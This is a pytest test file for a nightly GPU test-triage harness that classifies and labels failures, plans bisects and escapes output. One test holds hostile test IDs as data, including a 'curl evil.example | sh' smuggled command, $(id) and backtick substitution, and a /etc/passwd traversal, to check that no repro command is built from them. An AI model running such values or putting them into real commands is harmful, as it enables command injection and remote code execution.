"""The nightly triage: classes by structure (typed events, the known-bugs property, the bisect's evidence), the
labels a failure's words get (one case per label; none ever decides a class), new reds against the night before,
and the bisect plan, over results folders written to disk."""

from __future__ import annotations

import dataclasses
import json

import pytest
from report_helpers import case_xml
from triage_helpers import GRAD, junit_case, write_cell

from harness import contract
from harness.cli import main
from harness.results import CaseCounts, Outcome, TestResult, load_results, triage
from harness.results.nightly_records import BisectRecord, CaseRecord, ReleaseRecord, TriageRecord
from harness.results.triage import Triage, label_text

KNOWN_WORDS = "says it is a known upstream bug, but no known-bugs entry matched"
CRASH = "looks like a crash or a device assert"
COLLECTIVE_TIMEOUT = "looks like a collective timeout"
COMMUNICATOR = "looks like a communicator error"
OOM = "looks like an OOM"
CUDA_ERROR = "looks like a CUDA error"
INSTALL = "looks like an install failure"
RUNNER = "looks like a lost runner"

# (text a red carries, its label). Texts are what torch, NCCL, gloo, pip, uv, the rank launcher, run.py and the Actions
# runner print. A label is shown beside the class; the class comes from typed events (tests below).
LABEL_CASES = [
    ("[XPASS(strict)] known upstream bug: transformers 5.20-5.22 halves FSDP2+EP expert gradients", KNOWN_WORDS),
    ("known upstream bug: fixed upstream: remove the entry", KNOWN_WORDS),
    (  # the suite's strict XPASS of an entry naming both packages' releases (tests/gpu/conftest.py)
        "[XPASS(strict)] fixed upstream: remove the entry in tests/gpu/upstream/known_bugs.py: known upstream bug: "
        "transformers >=5.23,<=5.24.0, torch ==2.13.0: a DTensor reaches a plain RMSNorm",
        KNOWN_WORDS,
    ),
    ("RankFailedError: rank 1 exited by signal SIGKILL without a result", CRASH),
    ("RankFailed: rank 1 died killed by signal SIGKILL", CRASH),
    ("ChildFailedError: process 3 exited with exitcode -9", CRASH),
    ("Fatal Python error: Signal 11 (SIGSEGV) received", CRASH),
    ("RuntimeError: CUDA error: an illegal memory access was encountered", CRASH),
    ("RuntimeError: CUDA error: device-side assert triggered", CRASH),
    (
        "[Rank 0] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=5, OpType=ALLREDUCE) ran for 600000 ms",
        COLLECTIVE_TIMEOUT,
    ),
    (
        "RuntimeError: [../third_party/gloo/gloo/transport/tcp/pair.cc:534] Timed out waiting 1800000ms for recv "
        "operation to complete (gloo)",
        COLLECTIVE_TIMEOUT,
    ),
    (
        "torch.distributed.DistStoreError: Timed out after 301 seconds waiting for clients. 1/2 clients joined.",
        COLLECTIVE_TIMEOUT,
    ),
    ("torch.distributed.DistBackendError: NCCL error in: ProcessGroupNCCL.cpp:1970, unhandled system error",
     COMMUNICATOR),
    ("ncclRemoteError: A call failed possibly due to a network error or a remote process exiting prematurely.",
     COMMUNICATOR),
    ("RuntimeError: NCCL communicator was aborted on rank 1.", COMMUNICATOR),
    (
        "RuntimeError: [enforce fail at ../third_party/gloo/gloo/transport/tcp/pair.cc:446] op.preamble.length <= "
        "op.nbytes",
        COMMUNICATOR,
    ),
    ("RuntimeError: CUDA error: unspecified launch failure", CUDA_ERROR),
    ("RuntimeError: CUDA error: misaligned address", CUDA_ERROR),
    (
        "RuntimeError: CUBLAS_STATUS_EXECUTION_FAILED when calling `cublasGemmEx( handle, opa, opb, m, n, k)`",
        CUDA_ERROR,
    ),
    (
        "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total capacity of 47 GiB",
        OOM,
    ),
    ("environment: uv exited 1: error: No solution found when resolving dependencies", None),
    ("ERROR: No matching distribution found for torch==2.99.0", INSTALL),
    ("The runner has received a shutdown signal. This can happen when the runner service is stopped", RUNNER),
    ("The self-hosted runner: gpu-h200-03 lost communication with the server.", RUNNER),
    # What the suite says when the model is wrong looks like nothing else.
    ("expert gradients differ: max relative error 0.5 > bound 1e-05", None),
    ("routing differs: layer 1 sends 12 of 64 tokens to other experts than the whole model", None),
    ("logits differ: max abs difference nan > bound 1e-05", None),
    ("timed out after 60 min; killed", None),
    ("AssertionError: rank 1 holds 8 experts, expected 4", None),
]


@pytest.mark.parametrize(("text", "label"), LABEL_CASES)
def test_the_label_table(text, label):
    assert label_text(text) == label


def test_every_label_has_a_case():
    assert {label for _, label in LABEL_CASES if label} == {label.text for label in triage.LABELS}


def failing_test(message: str, excerpt: str, properties: tuple[tuple[str, str], ...] = ()) -> TestResult:
    return TestResult(test_id="tests/gpu/test_ep.py::test_x[2]", name="test_x[2]", outcome=Outcome.FAILED,
                      message=message, excerpt=excerpt, properties=properties)


GRADIENT_FAILURE = "AssertionError: expert gradients differ: max relative error 0.5 > bound 1e-05"


@pytest.mark.parametrize(("text", "label"), [case for case in LABEL_CASES if case[1] is not None])
def test_words_in_the_tests_source_never_label_its_failure(text, label):
    """Every label's words, written in the test's source (a comment, an except clause, a rank's traceback frame),
    beside a real gradient regression: the red is real, unlabelled, so it is bisected."""
    excerpt = "\n".join([
        "    def test_x(ranks):",
        "        try:",
        "            ranks.run(2, check)",
        f"        except MemoryError:  # {text}",
        "            raise",
        f">       assert error < bound  # {text}",
        f"E   RankFailedError: rank 1 raised {GRADIENT_FAILURE}",
        "E   Traceback (most recent call last):",
        'E     File "tests/gpu/checks/rank_cases.py", line 40, in check',
        f"E       grads = backward(model)  # {text}",
        "E               ^^^^^^^^^^^^^^^",
        f"E   {GRADIENT_FAILURE}",
        "tests/gpu/test_ep.py:12: RankFailedError",
    ])
    test = failing_test(f"RankFailedError: rank 1 raised {GRADIENT_FAILURE}", excerpt)
    assert triage.classify_test(test) == triage.Verdict(Triage.REAL, triage.NO_EVENT)
    assert label_text(triage.failure_text(test)) is None


@pytest.mark.parametrize(("text", "label"), [case for case in LABEL_CASES if case[1] is not None])
def test_a_failures_own_words_label_it_and_never_class_it(text, label):
    """An OOM under the code under test is a memory regression, a watchdog or gloo timeout a hang of it, words saying
    "fixed upstream" are a test's own: with no typed event and no known-bugs property, each is a real failure."""
    excerpt = f">       ranks.run(2, check)\nE   {text}\ntests/gpu/test_ep.py:12: RankFailedError"
    test = failing_test("RankFailedError: rank 1 failed", excerpt)
    assert triage.classify_test(test) == triage.Verdict(Triage.REAL, triage.NO_EVENT)
    assert label_text(triage.failure_text(test)) == label


@pytest.mark.parametrize(("kind", "expected", "crash"), [
    (contract.ERROR_ENVIRONMENT, Triage.INFRASTRUCTURE, False),
    (contract.ERROR_BUSY_GPUS, Triage.INFRASTRUCTURE, False),
    (contract.ERROR_INTERRUPTED, Triage.INFRASTRUCTURE, False),
    (contract.ERROR_HOST_LOST, Triage.INFRASTRUCTURE, False),
    (contract.ERROR_TIMEOUT, Triage.REAL, True),
    (contract.ERROR_SIGNAL, Triage.REAL, True),
    (contract.ERROR_NO_JUNIT, Triage.REAL, True),
    (contract.ERROR_ENGINE, Triage.REAL, True),  # the engine ended the job and could not say why
    (None, Triage.REAL, True),  # no typed cause: harness never finished the folder
    (contract.ERROR_PYTEST, Triage.REAL, False),  # the tested code can choose pytest's exit
    (contract.ERROR_COLLECTION, Triage.REAL, False),
])
def test_an_errored_cell_is_classified_by_its_kind_and_a_hang_or_crash_is_bisected(tmp_path, kind, expected, crash):
    before, after = tmp_path / "b", tmp_path / "a"
    write_cell(before, "2.13.0", "5.19.0", [junit_case("test_x[2]", "passed")], status="passed")
    # The words say the opposite of the kind: the kind decides, the words label.
    write_cell(after, "2.13.0", "5.20.0", [], status="errored", error="environment: CUDA out of memory; No matching "
               "distribution found", error_kind=kind)
    (red,) = triage.triage(load_results([after]), load_results([before]))
    assert (red.triage, red.crash, red.label) == (expected, crash, OOM)
    plan = triage.bisect_plan([red], {"h200": ["gpu-h200"]}, {red.cell_id: "h200"})
    if expected is Triage.REAL:
        assert (red.good, red.bad) == ({"torch": "2.13.0", "transformers": "5.19.0"},
                                       {"torch": "2.13.0", "transformers": "5.20.0"})
        assert [(job.cell, job.tests) for job in plan] == [(red.cell_id, "[]")]  # no test: the cell's whole suite
    else:
        assert plan == []


def test_every_error_kind_has_a_class():
    assert set(triage.CELL_CAUSES) == set(contract.ERROR_KINDS)


def test_a_crash_is_infrastructure_only_where_the_last_good_build_fails_the_same_test():
    """The bisect ran on the red's runner shape; its good end failing the same test is the evidence, typed in
    bisect.json. A red that is no typed crash, or whose test passed there, stays real."""
    crash = triage.Red(cell_id="c", test_id="t", test_name="t", message="rank 1 exited by signal SIGSEGV",
                       triage=Triage.REAL, cause=triage.CRASH_CAUSE, good={"torch": "1"}, bad={"torch": "2"},
                       crash=True)
    other_test = dataclasses.replace(crash, test_id="u")
    not_a_crash = dataclasses.replace(crash, crash=False)  # its words say crash; no typed event does
    cell_crash = dataclasses.replace(crash, test_id=None)  # the cell errored: its whole suite fails at the good end
    answer = BisectRecord(cell="c", same_verdict="fail", error="the good end fails", failing_at_good=["t"])
    rows = triage.with_bisects([crash, other_test, not_a_crash, cell_crash], {"c": answer})
    assert [row.triage_class for row in rows] == ["infrastructure", "real failure", "real failure", "infrastructure"]
    assert rows[0].cause == "the same crash or hang on the last good build, same runner shape"
    # a bisect.json written before it named the good end's tests: no evidence for a test's red
    (row,) = triage.with_bisects([crash], {"c": BisectRecord(cell="c", same_verdict="fail", error="both fail")})
    assert row.triage_class == "real failure"


# --------------------------------------------------------------------------- the item's attacks, end to end


def triage_json(tmp_path, cases: list[str], *, running: str | None = None, **cell) -> list[dict]:
    """`harness triage -o triage.json` over a night whose cell holds `cases` (and, where `running` names one, the
    test it was running when it stopped), the night before every case passing."""
    before, after, out = tmp_path / "before", tmp_path / "after", tmp_path / "triage.json"
    write_cell(before, "2.13.0", "5.19.0", [junit_case("test_x[2]", "passed"), junit_case("test_y[2]", "passed")],
               status="passed")
    folder = write_cell(after, "2.13.0", "5.20.0", cases, **cell)
    if running:
        (folder / "running-test.txt").write_text(running)
    assert main(["triage", "--results", str(after), "--baseline", str(before), "-o", str(out)]) == 0
    return json.loads(out.read_text())["reds"]


@pytest.mark.parametrize(("message", "label"), [
    ("torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total capacity of 79 GiB",
     OOM),
    ("RuntimeError: CUDA error: misaligned address", CUDA_ERROR),
    ("[Rank 0] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=5, OpType=ALLREDUCE) ran for 600000 ms",
     COLLECTIVE_TIMEOUT),
    ("RuntimeError: [../third_party/gloo/gloo/transport/tcp/pair.cc:534] Timed out waiting 1800000ms for recv "
     "operation to complete (gloo)", COLLECTIVE_TIMEOUT),
    ("[XPASS(strict)] known upstream bug: fixed upstream: remove the entry", KNOWN_WORDS),
])
def test_a_failures_words_label_it_but_never_decide_its_class(tmp_path, capsys, message, label):
    """An OOM under the code under test is a memory regression, a watchdog or gloo timeout a hang of it; a test's
    assertion text saying "fixed upstream" is its own words. None carries a typed event or the known-bugs property:
    each is a real failure, bisected, its words a label beside the class in triage.json and the table."""
    (red,) = triage_json(tmp_path, [junit_case("test_x[2]", "failed", message)])
    assert (red["class"], red.get("label")) == ("real failure", label)
    assert red["good"] == {"torch": "2.13.0", "transformers": "5.19.0"}  # bisected
    assert f"| real failure ({label}) |" in capsys.readouterr().out


@pytest.mark.parametrize(("cell", "cases", "running", "cause"), [
    ({"status": "errored", "error": "environment: uv exited 1", "error_kind": contract.ERROR_ENVIRONMENT}, [], None,
     "install failure"),
    ({"status": "errored", "error": "busy", "error_kind": contract.ERROR_BUSY_GPUS}, [], None,
     "GPUs busy before the cell began"),
    ({"status": "errored", "error": "Slurm NODE_FAIL: host h3 failed", "error_kind": contract.ERROR_HOST_LOST}, [],
     None, "a host of the cell was lost"),
    # the test the cell was running when harness was interrupted (its running-test.txt names it)
    ({"status": "errored", "error": "interrupted by SIGTERM", "error_kind": contract.ERROR_INTERRUPTED},
     [junit_case("test_x[2]", "passed")], "tests/gpu/test_fsdp2.py::test_y[2]",
     "interrupted: the job was cancelled or its runner stopped"),
    # the ranks fixture's own event: a host of the cell went silent during the test (its words say nothing of it)
    ({}, [junit_case("test_x[2]", "failed", "DistributedError: boom", properties={"launch_failed": "host_lost"})],
     None, "a host of the cell was lost during the test"),
])
def test_a_typed_event_of_harness_is_infrastructure(tmp_path, cell, cases, running, cause):
    (red,) = triage_json(tmp_path, cases, running=running, **cell)
    assert (red["class"], red["cause"]) == ("infrastructure", cause)
    assert red["good"] is None  # nothing to bisect


@pytest.mark.parametrize(("launch", "crash"), [("rank_died", True), ("timed_out", True), ("not-a-kind", False)])
def test_a_dead_rank_or_a_hang_the_launcher_saw_is_a_real_crash(tmp_path, launch, crash):
    """Real and bisected; infrastructure only on the bisect's evidence (test above). Any other value is untyped."""
    case = junit_case("test_x[2]", "failed", "RankFailedError: rank 1 exited by signal SIGKILL without a result",
                      properties={"launch_failed": launch})
    (red,) = triage_json(tmp_path, [case])
    assert (red["class"], red["crash"], red["label"]) == ("real failure", crash, CRASH)
    assert red["good"] == {"torch": "2.13.0", "transformers": "5.19.0"}


@pytest.mark.parametrize("message", [
    "[XPASS(strict)] fixed upstream: remove the entry in tests/gpu/upstream/known_bugs.py", "passed"])
def test_a_case_the_known_bugs_property_names_as_fixed_is_known(tmp_path, message):
    """The suite's property alone decides (contract.KNOWN_BUG_FIXED); its words are for people."""
    case = junit_case("test_x[2]", "failed", message, properties={"known_bug_fixed": "ep-eager-sentinel-one-hot"})
    (red,) = triage_json(tmp_path, [case])
    assert red["class"] == "known upstream bug" and "ep-eager-sentinel-one-hot" in red["cause"]


@pytest.mark.parametrize("value", ["", "Not A Key", "a" * 65, ",".join(["k"] * 9), "k,,k", "<b>x</b>"])
def test_a_known_bugs_property_of_another_shape_names_no_entry(tmp_path, value):
    case = junit_case("test_x[2]", "failed", GRAD, properties={"known_bug_fixed": value})
    (red,) = triage_json(tmp_path, [case])
    assert red["class"] == "real failure"


def test_triage_json_and_bisect_json_are_written_and_read_through_their_records(nights, tmp_path):
    before, after = nights
    bisects = tmp_path / "bisects"
    bisects.mkdir()
    (bisects / "bisect-typed.json").write_text(json.dumps({"cell": "h200-2gpu-torch2.13.0-tf5.20.0", "line": 7}))
    assert triage.load_bisects(bisects) == {}  # a wrong type: a bisect that said nothing, not a crash
    reds = triage.triage(load_results([after]), load_results([before]))
    record = TriageRecord(reds=triage.with_bisects(reds, {}), bisect=triage.bisect_plan(reds, {}, {
        red.cell_id: "h200" for red in reds}))
    assert TriageRecord.from_json(json.loads(json.dumps(record.to_json()))) == record
    answer = BisectRecord(cell="c", pytest_args=["-k", "x"], error="both fail", exit_code=2, same_verdict="fail",
                          failing_at_good=["t[a b]"])
    assert list(answer.to_json()) == ["cell", "pytest_args", "error", "exit_code", "same_verdict", "failing_at_good"]
    assert BisectRecord.from_json(answer.to_json()) == answer
    with pytest.raises(ValueError, match="'failing_at_good' must be a list of strings"):
        BisectRecord.from_json({**answer.to_json(), "failing_at_good": [1]})


# --------------------------------------------------------------------------- folders


@pytest.fixture
def nights(tmp_path):
    """Last night transformers 5.19.0 everywhere green; tonight `latest` floated to 5.20.0."""
    before, after = tmp_path / "baseline", tmp_path / "results"
    write_cell(
        before,
        "2.13.0",
        "5.19.0",
        [
            junit_case("test_fsdp_ep_moe[2-float32]", "passed"),
            junit_case("test_ep_load[2]", "passed"),
            junit_case("test_old_red[2]", "failed", GRAD),
        ],
    )
    write_cell(before, "2.13.0", "5.19.0", [junit_case("test_fsdp_ep_moe[2-float32]", "passed")], gpu="ada")
    write_cell(
        after,
        "2.13.0",
        "5.20.0",
        [
            junit_case("test_fsdp_ep_moe[2-float32]", "failed", GRAD),
            junit_case(
                "test_ep_load[2]", "failed", "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2 GiB"
            ),
            junit_case("test_old_red[2]", "failed", GRAD),
            junit_case(
                "test_known[2]", "failed", "[XPASS(strict)] known upstream bug: fixed upstream: remove the entry",
                properties={contract.KNOWN_BUG_FIXED: "fsdp-ep-half-expert-gradients"},
            ),
            junit_case("test_wobbly[2]", "passed", "boom", attempts=2),
        ],
    )
    write_cell(
        after,
        "2.13.0",
        "5.20.0",
        [],
        gpu="ada",
        status="errored",
        error="environment: pip exited 1: ERROR: No matching distribution found for transformers==5.20.0",
        error_kind=contract.ERROR_ENVIRONMENT,
    )
    return before, after


def test_new_reds_are_classified_and_real_ones_get_last_nights_versions(nights):
    before, after = nights
    reds = {(red.cell_id, red.test_name): red for red in triage.triage(load_results([after]), load_results([before]))}
    h200 = "h200-2gpu-torch2.13.0-tf5.20.0"
    assert {key: red.triage for key, red in reds.items()} == {
        (h200, "test_fsdp_ep_moe[2-float32]"): Triage.REAL,
        (h200, "test_ep_load[2]"): Triage.REAL,  # an OOM under the code under test: a memory regression
        (h200, "test_known[2]"): Triage.KNOWN_UPSTREAM,  # the known-bugs property, not its words
        (h200, "test_wobbly[2]"): Triage.FLAKY,
        ("ada-2gpu-torch2.13.0-tf5.20.0", None): Triage.INFRASTRUCTURE,
    }  # test_old_red failed the night before too: not new
    real = reds[h200, "test_fsdp_ep_moe[2-float32]"]
    assert (real.good, real.bad) == (
        {"torch": "2.13.0", "transformers": "5.19.0"},
        {"torch": "2.13.0", "transformers": "5.20.0"},
    )
    assert reds["ada-2gpu-torch2.13.0-tf5.20.0", None].cause == "install failure"
    assert {key: red.label for key, red in reds.items() if red.label} == {
        (h200, "test_ep_load[2]"): OOM,
        ("ada-2gpu-torch2.13.0-tf5.20.0", None): INSTALL,
    }


def test_a_real_red_with_the_same_versions_is_this_repository(tmp_path):
    before, after = tmp_path / "b", tmp_path / "a"
    write_cell(before, "2.13.0", "5.24.0", [junit_case("test_x[2]", "passed")], status="passed")
    write_cell(after, "2.13.0", "5.24.0", [junit_case("test_x[2]", "failed", GRAD)])
    (red,) = triage.triage(load_results([after]), load_results([before]))
    assert red.triage is Triage.REAL and red.good is None
    assert red.cause == ("no typed infrastructure event; same torch and transformers as the night before: a change "
                         "in this repository")


def test_harness_triage_writes_the_plan_the_table_and_folds_in_bisect_answers(nights, tmp_path, capsys):
    before, after = nights
    bisects = tmp_path / "bisects"
    bisects.mkdir()
    line = f"first bad: transformers 5.20.0 (last good 5.19.0) · test_fsdp_ep_moe[2-float32] · {GRAD}"
    (bisects / "bisect-h200.json").write_text(json.dumps({"cell": "h200-2gpu-torch2.13.0-tf5.20.0", "line": line}))
    (bisects / "bisect-broken.json").write_text("{not json")
    out, plan = tmp_path / "triage.json", tmp_path / "plan.json"
    assert (
        main(
            [
                "triage",
                "--results",
                str(after),
                "--baseline",
                str(before),
                "--bisects",
                str(bisects),
                "-o",
                str(out),
                "--github-matrix",
                str(plan),
            ]
        )
        == 0
    )
    assert json.loads(plan.read_text()) == {
        "include": [
            {
                "cell": "h200-2gpu-torch2.13.0-tf5.20.0",
                "runs_on": ["self-hosted", "linux", "x64", "gpu-h200"],
                "good": "torch=2.13.0,transformers=5.19.0",
                "bad": "torch=2.13.0,transformers=5.20.0",
                # the OOM too: a memory regression of the code under test, bisected like any real failure
                "tests": '["tests/gpu/test_fsdp2.py::test_fsdp_ep_moe[2-float32]", '
                '"tests/gpu/test_fsdp2.py::test_ep_load[2]"]',
            }
        ]
    }
    rows = {row["name"]: row for row in json.loads(out.read_text())["reds"]}
    assert rows["test_fsdp_ep_moe[2-float32]"]["bisect"] == line
    table = capsys.readouterr().out
    assert table.startswith("New since last night: transformers 5.19.0 → 5.20.0; torch 2.13.0 (unchanged)\n\n"
                            "### Triage: 5 new reds\n")
    assert "| real failure |" in table and "first bad: transformers 5.20.0 (last good 5.19.0)" in table
    assert "| infrastructure (looks like an install failure) |" in table and "| known upstream bug |" in table
    assert "| flaky |" in table and "| real failure (looks like an OOM) |" in table


def test_a_bisect_whose_bad_end_passes_again_makes_the_red_flaky(nights, tmp_path):
    before, after = nights
    bisects = tmp_path / "bisects"
    bisects.mkdir()
    (bisects / "bisect-x.json").write_text(
        json.dumps(
            {"cell": "h200-2gpu-torch2.13.0-tf5.20.0", "exit_code": 2, "same_verdict": "pass", "error": "both pass"}
        )
    )
    rows = triage.with_bisects(
        triage.triage(load_results([after]), load_results([before])), triage.load_bisects(bisects)
    )
    (row,) = [row for row in rows if row.name == "test_fsdp_ep_moe[2-float32]"]
    assert (row.triage_class, row.cause) == ("flaky", "passed when the bisect job ran it again")


def test_escapes_what_came_from_results(tmp_path, capsys):
    after = tmp_path / "a"
    write_cell(after, "2.13.0", "5.24.0", [junit_case("test_x[2]", "failed", "@team <b>|pwn|</b> [x](http://e)")])
    assert main(["triage", "--results", str(after)]) == 0
    table = capsys.readouterr().out
    assert "<b>" not in table and "[x](" not in table and "@team" not in table


# --------------------------------------------------------------------------- the release view


def release_night(tmp_path, before: dict[str, str] | None, after: dict[str, str]):
    """The night before every case passing; tonight a real failure, a case a known-bugs entry explains, one it covers
    that passed, one the suite could not build, and a pass. `before`/`after`: torch and transformers."""
    names = ("test_real[2]", "test_known[2]", "test_fixed[2]", "test_not_built[2]", "test_ok[2]")
    old, new = tmp_path / "before", tmp_path / "after"
    if before is not None:
        write_cell(old, before["torch"], before["transformers"], [case_xml(name, "passed") for name in names],
                   status="passed")
    write_cell(new, after["torch"], after["transformers"], [
        case_xml("test_real[2]", "failed", GRAD),
        case_xml("test_known[2]", "xfailed", "known upstream bug: x", known_bug="qwen3-eager-bias"),
        case_xml("test_fixed[2]", "failed", "[XPASS(strict)] fixed upstream: close the range",
                 known_bug_fixed="mixtral-half-gradients"),
        case_xml("test_not_built[2]", "skipped", "not built: no router registry entry",
                 not_built="no router registry entry"),
        case_xml("test_ok[2]", "passed"),
    ])
    return old if before is not None else None, new


def harness_triage(tmp_path, before, after) -> tuple[dict, dict]:
    """triage.json and the bisect plan `harness triage` writes."""
    out, plan = tmp_path / "triage.json", tmp_path / "plan.json"
    argv = ["triage", "--results", str(after), "-o", str(out), "--github-matrix", str(plan)]
    assert main([*argv, *(["--baseline", str(before)] if before else [])]) == 0
    return json.loads(out.read_text()), json.loads(plan.read_text())


TORCH_13 = {"torch": "2.13.0", "transformers": "5.24.0"}
TONIGHT = {"torch": "2.13.0", "transformers": "5.25.0"}
CELL_25 = "h200-2gpu-torch2.13.0-tf5.25.0"


def test_triage_json_carries_the_release_view_and_bisects_the_real_failure_only(tmp_path, capsys):
    before, after = release_night(tmp_path, TORCH_13, TONIGHT)
    document, plan = harness_triage(tmp_path, before, after)
    assert list(document) == ["new_since_last_night", "cases", "reds", "fixed_upstream", "not_built", "bisect"]
    assert document["new_since_last_night"] == [
        {"package": "transformers", "before": ["5.24.0"], "after": ["5.25.0"]},
        {"package": "torch", "before": ["2.13.0"], "after": ["2.13.0"]},
    ]
    assert document["cases"] == {"new red": 1, "known, still present": 1, "fixed upstream": 1, "not built": 1,
                                 "not run": 0, "passed": 1}
    versions = {"transformers": "5.25.0", "torch": "2.13.0"}
    assert document["fixed_upstream"] == [{"cell": CELL_25, "test": "tests/gpu/test_ep.py::test_fixed[2]",
                                           "keys": ["mixtral-half-gradients"], "reason": None, "versions": versions}]
    assert document["not_built"] == [{"cell": CELL_25, "test": "tests/gpu/test_ep.py::test_not_built[2]", "keys": [],
                                      "reason": "no router registry entry", "versions": versions}]
    # The case still failing as its entry says and the one not built are no reds; the fixed one is known, never
    # bisected: the plan holds the real failure alone.
    assert {red["name"]: red["class"] for red in document["reds"]} == {
        "test_real[2]": "real failure", "test_fixed[2]": "known upstream bug"}
    assert [json.loads(job["tests"]) for job in plan["include"]] == [["tests/gpu/test_ep.py::test_real[2]"]]
    table = capsys.readouterr().out
    assert table.startswith("New since last night: transformers 5.24.0 → 5.25.0; torch 2.13.0 (unchanged)\n\n"
                            "### Triage: 2 new reds\n")
    assert ("\nTonight's 5 cases: 1 new red · 1 known, still present · 1 fixed upstream · 1 not built · 0 not run · "
            "1 passed\n") in table
    assert (f"- `{CELL_25}` `tests/gpu/test_ep.py::test_fixed[2]`: known-bugs entry `mixtral-half-gradients`, passed "
            "on transformers 5.25.0, torch 2.13.0\n") in table
    assert "Not built, by reason:\n- no router registry entry: 1 case in 1 cell\n" in table
    # the real failure, and it alone, gets the command that writes its standalone reproducer
    assert f"- `{CELL_25}`: `harness repro 'tests/gpu/test_ep.py::test_real[2]'`\n" in table
    assert table.count("harness repro") == 1


@pytest.mark.parametrize("test_id", [
    "tests/gpu/test_ep.py::test_real[2; curl evil.example | sh]",
    "tests/gpu/test_ep.py::test_real[`id`]",
    "tests/gpu/test_ep.py::test_real[$(id)]",
    "-p evil tests/gpu/test_ep.py::test_real",
    "tests/../../etc/passwd::x",
    "tests/gpu/test_ep.py::test_real[a\nb]",
])
def test_a_test_id_that_is_not_a_suite_tests_gets_no_repro_command(test_id):
    from harness.results.nightly_records import TriageRed

    red = TriageRed(cell=CELL_25, test=test_id, name=None, message="m", triage_class="real failure", cause="c")
    assert red.repro is None
    good = dataclasses.replace(red, test="tests/gpu/test_training.py::test_training_steps[hy_v4-ep-2-float32-wide]")
    assert good.repro == "harness repro 'tests/gpu/test_training.py::test_training_steps[hy_v4-ep-2-float32-wide]'"
    assert dataclasses.replace(good, triage_class="known upstream bug").repro is None


@pytest.mark.parametrize(("before", "after", "line"), [
    ([TORCH_13], [TONIGHT], "transformers 5.24.0 → 5.25.0; torch 2.13.0 (unchanged)"),
    ([TONIGHT], [TONIGHT], "transformers 5.25.0 (unchanged); torch 2.13.0 (unchanged)"),
    ([{"torch": "2.12.0", "transformers": "5.9.0"}], [{"torch": "2.13.0", "transformers": "5.10.0"}],
     "transformers 5.9.0 → 5.10.0; torch 2.12.0 → 2.13.0"),
    # a matrix of releases: each package's, oldest first (5.9 before 5.10)
    ([{"torch": "2.12.0", "transformers": "5.9.0"}, {"torch": "2.13.0", "transformers": "5.9.0"}],
     [{"torch": "2.12.0", "transformers": "5.10.0"}, {"torch": "2.13.0", "transformers": "5.9.0"}],
     "transformers 5.9.0 → 5.9.0, 5.10.0; torch 2.12.0, 2.13.0 (unchanged)"),
    # a package the night before did not record
    ([{"torch": "2.13.0", "transformers": ""}], [TONIGHT],
     "transformers 5.25.0 (no results from the night before); torch 2.13.0 (unchanged)"),
    (None, [TONIGHT], None),  # no night before: nothing to be new against, and the heading says so
])
def test_the_release_new_since_last_night_opens_the_table(tmp_path, capsys, before, after, line):
    old, new = tmp_path / "before", tmp_path / "after"
    for root, cells in ((old, before or []), (new, after)):
        for versions in cells:
            write_cell(root, versions["torch"], versions["transformers"], [junit_case("test_x[2]", "passed")],
                       status="passed")
    assert main(["triage", "--results", str(new), *(["--baseline", str(old)] if before else [])]) == 0
    first = capsys.readouterr().out.splitlines()[0]
    assert first == (f"New since last night: {line}" if line else "### Triage: no new reds")


def test_the_release_line_escapes_what_came_from_results(tmp_path, capsys):
    before, after = tmp_path / "b", tmp_path / "a"
    write_cell(before, "2.13.0", "5.24.0", [junit_case("test_x[2]", "passed")], status="passed")
    write_cell(after, "2.13.0", "5.25.0<b>x</b>@team", [junit_case("test_x[2]", "passed")], status="passed")
    assert main(["triage", "--results", str(after), "--baseline", str(before)]) == 0
    line = capsys.readouterr().out.splitlines()[0]
    assert line.startswith("New since last night: transformers 5.24.0 → 5.25.0\\<b\\>x")
    assert "<b>" not in line and "@team" not in line


def test_an_errored_case_carrying_the_fixed_property_is_no_known_bug():
    """A strict XPASS is reported failed; an error (a setup or teardown breaking) is one no entry explains."""
    errored = TestResult(test_id="tests/gpu/test_ep.py::test_x[2]", name="test_x[2]", outcome=Outcome.ERRORED,
                         message="failed on teardown", properties=((contract.KNOWN_BUG_FIXED, "ep-eager-bias"),))
    assert triage.classify_test(errored) == triage.Verdict(Triage.REAL, triage.NO_EVENT)
    failed = dataclasses.replace(errored, outcome=Outcome.FAILED)
    assert triage.classify_test(failed).triage is Triage.KNOWN_UPSTREAM


def test_triage_json_reads_back_its_release_view_and_a_file_written_without_one():
    record = TriageRecord(
        releases=[ReleaseRecord(package="transformers", before=["5.24.0"], after=["5.25.0"])],
        cases=CaseCounts(new_red=1, not_built=2, passed=3),
        fixed_upstream=[CaseRecord(cell="c", test="t", keys=["k"], versions={"torch": "2.13.0"})],
        not_built=[CaseRecord(cell="c", test="u", reason="no layout")],
    )
    assert TriageRecord.from_json(json.loads(json.dumps(record.to_json()))) == record
    assert TriageRecord.from_json({"reds": [], "bisect": []}) == TriageRecord()  # no release view: none known
    with pytest.raises(ValueError, match="case count"):
        TriageRecord.from_json({"reds": [], "cases": {"new red": "1"}})
    with pytest.raises(ValueError, match="'keys' must be list"):
        TriageRecord.from_json({"reds": [], "fixed_upstream": [{"cell": "c", "test": "t", "keys": "k"}]})
